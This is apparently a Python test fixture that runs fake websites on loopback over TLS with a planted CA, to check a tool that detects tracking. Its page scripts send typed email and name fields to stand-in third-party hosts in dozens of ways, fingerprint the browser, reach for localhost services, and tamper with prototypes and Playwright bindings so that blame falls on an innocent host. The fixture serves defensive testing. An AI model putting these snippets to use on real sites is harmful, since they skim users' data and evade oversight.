"""A world of invented sites on loopback, over TLS with a certificate of its own: a shop whose page tells twenty others
in known ways, and a clean one that tells nobody. It writes down every message that reaches it."""

import base64
import datetime
import hashlib
import ssl
import struct
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

SHOP = "shop.example"
CLEAN = "clean.example"
BUSY = "busy.example"
"""Its page never answers once it is there, nor does its worker."""
FRAMER = "framer.example"
"""Its page wants the report to say that innocent.example did what it did."""
HIDING = "hiding.example"
"""Another's script in its page hides what it does."""
NEAR = "near.example"
"""Its page tries to reach what listens on this machine (``near_port``) in every way that it has."""
HOSTS = (
    *("plain-json", "in-address", "gzipped", "base64-beacon", "socket", "worker", "hashed", "md5", "keys", "letters"),
    *("referrer", "asked-page", "cookies", "script-cookie", "prints", "recorder", "sealed", "blob", "frame", "pixel"),
    *("name", "after-refusal", "only-before", "leaving", "sha1", "large", "form-data", "xhr"),
)
"""Each is `NAME.example`."""
PAGE = "/rooms/blue?for=two"

_SCRIPTS = {
    "plain-json": "typed((v) => fetch(at, {method: 'POST', body: JSON.stringify({mail: v})}));",
    "in-address": "typed((v) => { new Image().src = at + '?u=' + encodeURIComponent(v); });",
    "gzipped": """typed(async (v) => {
        const packed = new Blob([JSON.stringify({mail: v})]).stream().pipeThrough(new CompressionStream('gzip'));
        fetch(at, {method: 'POST', body: await new Response(packed).arrayBuffer()});
    });""",
    "base64-beacon": "typed((v) => navigator.sendBeacon(at, btoa(JSON.stringify({m: v}))));",
    "socket": """const line = new WebSocket(at.replace('https', 'wss'));
        const opened = new Promise((go) => line.addEventListener('open', go));
        typed(async (v) => { await opened; line.send('field ' + v); });""",
    "worker": """const source = `onmessage = (e) => fetch('${at}', {method: 'POST', body: e.data})`;
        const worker = new Worker(URL.createObjectURL(new Blob([source]))); typed((v) => worker.postMessage(v));""",
    "hashed": "typed(async (v) => fetch(at + '?em=' + hex(await crypto.subtle.digest('SHA-256', bytes(v)))));",
    "sha1": "typed(async (v) => fetch(at + '?em=' + hex(await crypto.subtle.digest('SHA-1', bytes(v)))));",
    "md5": "typed((v) => fetch(at + '?em=' + md5(v)));",
    "keys": "field.addEventListener('input', () => fetch(at, {method: 'POST', body: 'now=' + field.value}));",
    "letters": "field.addEventListener('keydown', (e) => navigator.sendBeacon(at, JSON.stringify({key: e.key})));",
    "referrer": "fetch(at, {referrerPolicy: 'unsafe-url', mode: 'no-cors'});",
    "asked-page": "fetch(at + '?dl=' + encodeURIComponent(location.href));",
    "cookies": "fetch(at + '?set', {credentials: 'include'});",
    "script-cookie": "document.cookie = '_sc=abc123; max-age=7776000; path=/';",
    "prints": """const canvas = document.createElement('canvas'); const pen = canvas.getContext('2d');
        pen.fillText('mark', 2, 12); canvas.toDataURL();
        const gl = document.createElement('canvas').getContext('webgl'); if (gl) gl.getParameter(0x9246);
        new OfflineAudioContext(1, 100, 44100);
        for (let i = 0; i < 25; i++) { pen.font = '12px font' + i; pen.measureText('mmm'); }
        try { new RTCPeerConnection().createDataChannel('x'); } catch {}""",
    "recorder": """for (const kind of ['mousemove', 'scroll', 'input']) document.addEventListener(kind, () => {});
        new MutationObserver(() => {}).observe(document, {subtree: true, childList: true});""",
    "sealed": """typed(async (v) => {
        const key = await crypto.subtle.generateKey({name: 'AES-GCM', length: 256}, false, ['encrypt']);
        const sealed = await crypto.subtle.encrypt({name: 'AES-GCM', iv: new Uint8Array(12)}, key, bytes(v));
        fetch(at, {method: 'POST', body: sealed});
    });""",
    "blob": "typed((v) => navigator.sendBeacon(at, new Blob([JSON.stringify({mail: v})])));",
    "pixel": "new Image().src = at + '?view';",
    "name": """document.getElementById('name').addEventListener('change', (e) =>
        fetch(at, {method: 'POST', body: new URLSearchParams({who: e.target.value})}));""",
    "after-refusal": "typed((v) => fetch(at, {method: 'POST', body: 'still=' + encodeURIComponent(v)}));",
    "only-before": "if (!document.cookie.includes('refused=1')) fetch(at + '?view');",
    "large": "typed((v) => fetch(at, {method: 'POST', body: 'x'.repeat(400000) + v}));",
    "form-data": """typed((v) => { const form = new FormData(); form.append('mail', v);
        fetch(at, {method: 'POST', body: form}); });""",
    "xhr": """typed((v) => { const asked = new XMLHttpRequest(); asked.open('POST', at);
        asked.send(new Blob([v])); });""",
    "leaving": "addEventListener('pagehide', () => navigator.sendBeacon(at, 'kept ' + field.value));",
}
_PRELUDE = """(() => {
const at = 'https://HOST/got', field = document.getElementById('mail');
const bytes = (text) => new TextEncoder().encode(text);
const hex = (buffer) => Array.from(new Uint8Array(buffer), (b) => b.toString(16).padStart(2, '0')).join('');
const md5 = (text) => {  // RFC 1321
  const add = (a, b) => (a + b) | 0, turn = (a, n) => (a << n) | (a >>> (32 - n));
  const turns = [[7, 12, 17, 22], [5, 9, 14, 20], [4, 11, 16, 23], [6, 10, 15, 21]];
  const padded = [...bytes(text), 0x80]; while (padded.length % 64 !== 56) padded.push(0);
  const view = new DataView(new ArrayBuffer(padded.length + 8)); padded.forEach((b, i) => view.setUint8(i, b));
  view.setUint32(padded.length, bytes(text).length * 8, true);
  let state = [0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476].map((n) => n | 0);
  for (let at = 0; at < view.byteLength; at += 64) {
    let [a, b, c, d] = state;
    for (let i = 0; i < 64; i++) {
      const round = i >> 4;
      const f = [(b & c) | (~b & d), (d & b) | (~d & c), b ^ c ^ d, c ^ (b | ~d)][round];
      const g = [i, 5 * i + 1, 3 * i + 5, 7 * i][round] % 16;
      const k = Math.floor(2 ** 32 * Math.abs(Math.sin(i + 1))) | 0;
      const next = add(b, turn(add(add(a, f), add(k, view.getInt32(at + 4 * g, true))), turns[round][i % 4]));
      [a, d, c, b] = [d, c, b, next];
    }
    state = [a, b, c, d].map((n, i) => add(n, state[i]));
  }
  const out = new DataView(new ArrayBuffer(16)); state.forEach((n, i) => out.setInt32(4 * i, n, true));
  return hex(out.buffer);
};
const typed = (send) => field.addEventListener('change', () => send(field.value));
"""
_FORM = """<form action="/sent" method="post"><input type="email" id="mail" name="email">
<input type="text" id="name" name="full-name"><textarea name="message"></textarea>
<button>Send</button></form>"""


def _shop() -> str:
    scripts = "".join(f'<script src="https://{name}.example/tag.js"></script>' for name in HOSTS if name != "frame")
    own = "<script>document.getElementById('mail').addEventListener('change', (e) => fetch('https://metrics.shop.example/got', {method: 'POST', body: e.target.value}));</script>"  # noqa: E501
    banner = (
        "<div id=banner><button onclick=\"document.cookie='refused=1;path=/';this.parentNode.remove()\">Reject all"
        "</button><button>Accept all</button></div>"
    )
    return (
        f"<!doctype html><title>Shop</title>{banner}{_FORM}<iframe src='https://frame.example/inside'></iframe>"
        f"{own}{scripts}"
    )


_CLEAN = (
    f"<!doctype html><title>Clean</title>{_FORM}<link rel=stylesheet href=/style.css>"
    "<script>document.cookie = 'basket=1';document.getElementById('mail').addEventListener('input', () => 1)</script>"
)
_BUSY = """<!doctype html><script>
new Worker(URL.createObjectURL(new Blob(["while (true);"])));
addEventListener("load", () => setTimeout(() => { while (true); }, 1500));
</script>"""
_FRAMER = """<!doctype html><script>
const innocent = "https://innocent.example/tag.js";
window.mine = {exec: RegExp.prototype.exec, apply: Function.prototype.apply, has: Set.prototype.has};
Error.prepareStackTrace = () => `Error\n    at ${innocent}:1:1`;
RegExp.prototype.exec = () => [innocent];
String.prototype.split = () => [innocent];
Array.prototype.includes = () => true;
Array.prototype[Symbol.iterator] = function* () { yield innocent; };
Array.prototype.toJSON = () => [innocent];
Object.prototype.toJSON = () => innocent;
Object.prototype.get = () => innocent;
JSON.stringify = () => JSON.parse('""');
Object.defineProperty(Error.prototype, "stack", {get: () => `at ${innocent}:1:1`, configurable: true});
window.Error = function () { return {stack: `at ${innocent}:1:1`}; };
window.Error.stackTraceLimit = 0;
const paint = () => {
  const c = document.createElement("canvas"); c.getContext("2d").fillText("x", 1, 9); c.toDataURL();
};
paint();
(0, eval)(`window.painted = ${paint};painted();\n//# sourceURL=${innocent}`);
const control = globalThis.__playwright__binding__controller__, told = globalThis.__playwright__binding__;
for (const name of control?._bindings?.keys() ?? []) {
  const binding = (...all) => { try { control.callBinding(name, ...all); } catch {} };
  binding("canvas", innocent, ""); binding("", "canvas", innocent, "");
  const all = (...args) => told('{"name":"' + name + '","seq":1,"serializedArgs":["' + args.join('","') + '"]}');
  all("canvas", innocent, ""); all("0".repeat(32), "canvas", innocent, "");
}
document.cookie = "framed=1; path=/";
</script><img src="https://innocent.example/pixel">"""
_HIDER = """(() => {
  let natively = null;
  Function.prototype.apply = function (...all) { natively ??= this; return Reflect.apply(this, all[0], all[1] ?? []); };
  Set.prototype.has = () => true; Set.prototype.add = () => { throw new Error("no"); };
  Map.prototype.get = () => { throw new Error("no"); };
  Object.defineProperty(window, "String", {value: () => { throw new Error("no"); }});
  Object.getOwnPropertyDescriptor(Error, "stackTraceLimit")?.configurable && (Error.stackTraceLimit = 0);
  const c = document.createElement("canvas"); c.getContext("2d").fillText("x", 1, 9); c.toDataURL();
  fetch("https://hider.example/natively?" + (natively === null ? "no" : "yes"), {mode: "no-cors"});
})();"""
_SHARED = b"""<script>
new SharedWorker(URL.createObjectURL(new Blob([
  "fetch('https://shared.example/got', {method: 'POST', mode: 'no-cors'})"])));
</script>"""
_PIXEL = "<!doctype html><img src=https://shared.example/pixel><input type=email name=email><script>"
_APART = {
    "sharing.example": _PIXEL
    + """const worker = new SharedWorker("/worker.js");
document.querySelector("input").addEventListener("change", (e) => worker.port.postMessage(e.target.value));</script>""",
    "serving.example": _PIXEL
    + """navigator.serviceWorker.register("/worker.js");
document.querySelector("input").addEventListener("change", async (e) => {
  const value = e.target.value; (await navigator.serviceWorker.ready).active.postMessage(value); });</script>""",
    "turning.example": _PIXEL
    + """for (let i = 0; i < 6000; i++) document.cookie = `a${i}=; max-age=0`; // more than is told
const line = new RTCPeerConnection.prototype.constructor({iceServers: [
  {urls: "turn:shared.example:444?transport=tcp", username: "a", credential: "b"}]});
line.createDataChannel("x"); line.createOffer().then((offer) => line.setLocalDescription(offer));</script>""",
    "rebinding.example": """<!doctype html><script>new SharedWorker("/rebinding.js")</script>""",
    "leaver.example": """<!doctype html><script>addEventListener("pagehide", () => {
  for (const host of ["slow.leaver.example", "slow-near.leaver.example"])
    fetch(`https://${host}/`, {mode: "no-cors", keepalive: true});
})</script>""",
}
"""Pages that send in a way that the driver doesn't tell of, or when they are left already."""
_WORKER = b"""const send = (e) => { const at = "shared.example/apart?" + encodeURIComponent(e.data);
  if (self.registration) new WebSocket("wss://" + at); else fetch("https://" + at, {mode: "no-cors"}); };
onmessage = send; onconnect = (e) => { e.ports[0].onmessage = send; };"""
_REBINDING = b"""fetch("https://turncoat.example/got", {mode: "no-cors"}).then(
  () => fetch("https://turncoat.example:444/", {mode: "no-cors"}));"""
_NEAR = """<!doctype html><form id=f method=post enctype=text/plain target=_blank><input name=command></form>
<a id=a target=_blank>on</a><iframe src="http://127.0.0.1:PORT/frame"></iframe>
<img src="http://localhost:PORT/img"><link rel=stylesheet href="http://[::1]:PORT/style">
<script>
const places = ["127.0.0.1", "localhost", "own.localhost", "[::1]", "127.1", "2130706433", "0.0.0.0", "[::ffff:127.0.0.1]",
  "rebound.example"];
for (const place of places) {
  const at = "http://" + place + ":PORT/";
  fetch(at + "fetch", {mode: "no-cors", method: "POST", body: "command"}).catch(() => {});
  navigator.sendBeacon(at + "beacon", "command");
  new WebSocket("ws://" + place + ":PORT/socket");
}
new Worker(URL.createObjectURL(new Blob(["fetch('http://127.0.0.1:PORT/worker', {mode: 'no-cors'})"])));
const line = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:PORT"}, {urls: "turn:127.0.0.1:PORT?transport=tcp", username: "a", credential: "b"}]});
line.createDataChannel("x"); line.createOffer().then((offer) => line.setLocalDescription(offer));
fetch("/away", {mode: "no-cors"}).catch(() => {});
document.querySelector("input").value = "command";
f.action = "http://127.0.0.1:PORT/form"; f.submit();
open("http://127.0.0.1:PORT/window");
a.href = "http://127.0.0.1:PORT/link"; a.click();
document.addEventListener("keydown", () => { f.submit(); open("http://127.0.0.1:PORT/window"); a.click(); });
document.addEventListener("pointermove", () => { location = "http://127.0.0.1:PORT/move"; }, {once: true});
</script>"""  # noqa: E501
_INSIDE = """<!doctype html><input type="text" name="inside"><script>
document.querySelector('input').addEventListener('change', (e) => fetch('https://frame.example/got', {method: 'POST', body: e.target.value}));
</script>"""  # noqa: E501


@dataclass
class World:
    """``port``; ``key`` for the browser to trust; ``got``: host, path and body of all that came."""

    port: int
    key: str
    near_port: int = 0
    got: list[tuple[str, str, bytes]] = field(default_factory=list)

    @property
    def way(self) -> dict[str, Any]:
        """What leads a browser here and nowhere else, as ``somebody.py`` takes it."""
        return {"arguments": [f"--ignore-certificate-errors-spki-list={self.key}"], "led": self.port}

    @property
    def hosts(self) -> set[str]:
        """Everybody who was asked for something."""
        return {host for host, _, _ in self.got}


@contextmanager
def world() -> Iterator[World]:
    """The world, for as long as it is needed."""
    names = [
        SHOP,
        f"*.{SHOP}",
        CLEAN,
        BUSY,
        NEAR,
        FRAMER,
        "innocent.example",
        "hider.example",
        "shared.example",
        *(f"{name}.example" for name in HOSTS),
    ]
    made = World(0, "")

    class Answers(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            self._answer()

        def do_POST(self) -> None:
            self._answer()

        def do_OPTIONS(self) -> None:
            self._answer()

        def _answer(self) -> None:
            host = (self.headers["Host"] or "").split(":")[0]
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            made.got.append((host, self.path, body))
            if self.headers.get("Upgrade") == "websocket":
                self._socket(host)
                return
            kind, content = _content(host, self.path)
            if host == NEAR:
                content = _NEAR.replace("PORT", str(made.near_port)).encode()
                self.send_response(307 if self.path == "/away" else 200)
                self.send_header("Location", f"http://127.0.0.1:{made.near_port}/redirect")
            else:
                self.send_response(200)
            if host == "cookies.example":
                self.send_header("Set-Cookie", "id=u1; Max-Age=31536000; Secure; SameSite=None")
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(content)))
            self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin") or "*")
            self.send_header("Access-Control-Allow-Credentials", "true")
            self.send_header("Access-Control-Allow-Headers", "content-type")
            self.end_headers()
            self.wfile.write(content)

        def _socket(self, host: str) -> None:
            salted = self.headers["Sec-WebSocket-Key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
            accept = base64.b64encode(hashlib.sha1(salted.encode()).digest()).decode()
            self.send_response(101)
            for name, value in (("Upgrade", "websocket"), ("Connection", "Upgrade"), ("Sec-WebSocket-Accept", accept)):
                self.send_header(name, value)
            self.end_headers()
            self.close_connection = True
            while len(head := self.rfile.read(2)) == 2 and head[0] & 15 == 1:
                length = head[1] & 127
                if length == 126:
                    length = struct.unpack(">H", self.rfile.read(2))[0]
                mask = self.rfile.read(4)
                made.got.append((host, "frame", bytes(b ^ mask[i % 4] for i, b in enumerate(self.rfile.read(length)))))

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answers)
    server.daemon_threads = True
    context, made.key = _certificate(names)
    server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
    server.handle_error = lambda *_: None  # type: ignore[method-assign]
    made.port = server.server_address[1]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield made
    finally:
        server.shutdown()
        server.server_close()


def _content(host: str, path: str) -> tuple[str, bytes]:
    name = host.removesuffix(".example")
    if path == "/tag.js" and name in _SCRIPTS:
        return "text/javascript", (_PRELUDE.replace("HOST", host) + _SCRIPTS[name] + "\n})();").encode()
    if host == SHOP and path == PAGE:
        return "text/html", _shop().encode()
    if host == CLEAN and not path.endswith(".css"):
        return "text/html", _CLEAN.encode()
    if host == FRAMER:
        return "text/html", _FRAMER.encode()
    if host == HIDING:
        return "text/html", b"<!doctype html><script src=https://hider.example/tag.js></script>" + _SHARED
    if host == "hider.example" and path == "/tag.js":
        return "text/javascript", _HIDER.encode()
    if host in _APART and path == "/":
        return "text/html", _APART[host].encode()
    if path in ("/worker.js", "/rebinding.js"):
        return "text/javascript", _WORKER if path == "/worker.js" else _REBINDING
    if host == NEAR:
        return "text/html", b""
    if host == BUSY:
        return "text/html", _BUSY.encode()
    if path == "/inside":
        return "text/html", _INSIDE.encode()
    return "text/plain", b""


def _certificate(names: list[str]) -> tuple[ssl.SSLContext, str]:
    """A CA, a certificate by it, and the hash of that one's key as a browser takes it."""
    now = datetime.datetime.now(datetime.UTC)
    root, key = ec.generate_private_key(ec.SECP256R1()), ec.generate_private_key(ec.SECP256R1())

    def made(subject: str, public: Any, *more: x509.ExtensionType) -> x509.Certificate:
        builder = x509.CertificateBuilder(
            x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Planted CA")]),
            x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, subject)]),
            public,
            x509.random_serial_number(),
            now - datetime.timedelta(days=1),
            now + datetime.timedelta(days=30),
        )
        for each in more:
            builder = builder.add_extension(each, critical=False)
        return builder.sign(root, hashes.SHA256())

    authority = made("Planted CA", root.public_key(), x509.BasicConstraints(ca=True, path_length=0))
    leaf = made("planted", key.public_key(), x509.SubjectAlternativeName([x509.DNSName(name) for name in names]))
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    chain = leaf.public_bytes(serialization.Encoding.PEM) + authority.public_bytes(serialization.Encoding.PEM)
    with tempfile.TemporaryDirectory() as folder:
        Path(folder, "chain.pem").write_bytes(chain)
        Path(folder, "key.pem").write_bytes(private)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(Path(folder, "chain.pem"), Path(folder, "key.pem"))
    spki = key.public_key().public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    return context, base64.b64encode(hashlib.sha256(spki).digest()).decode()
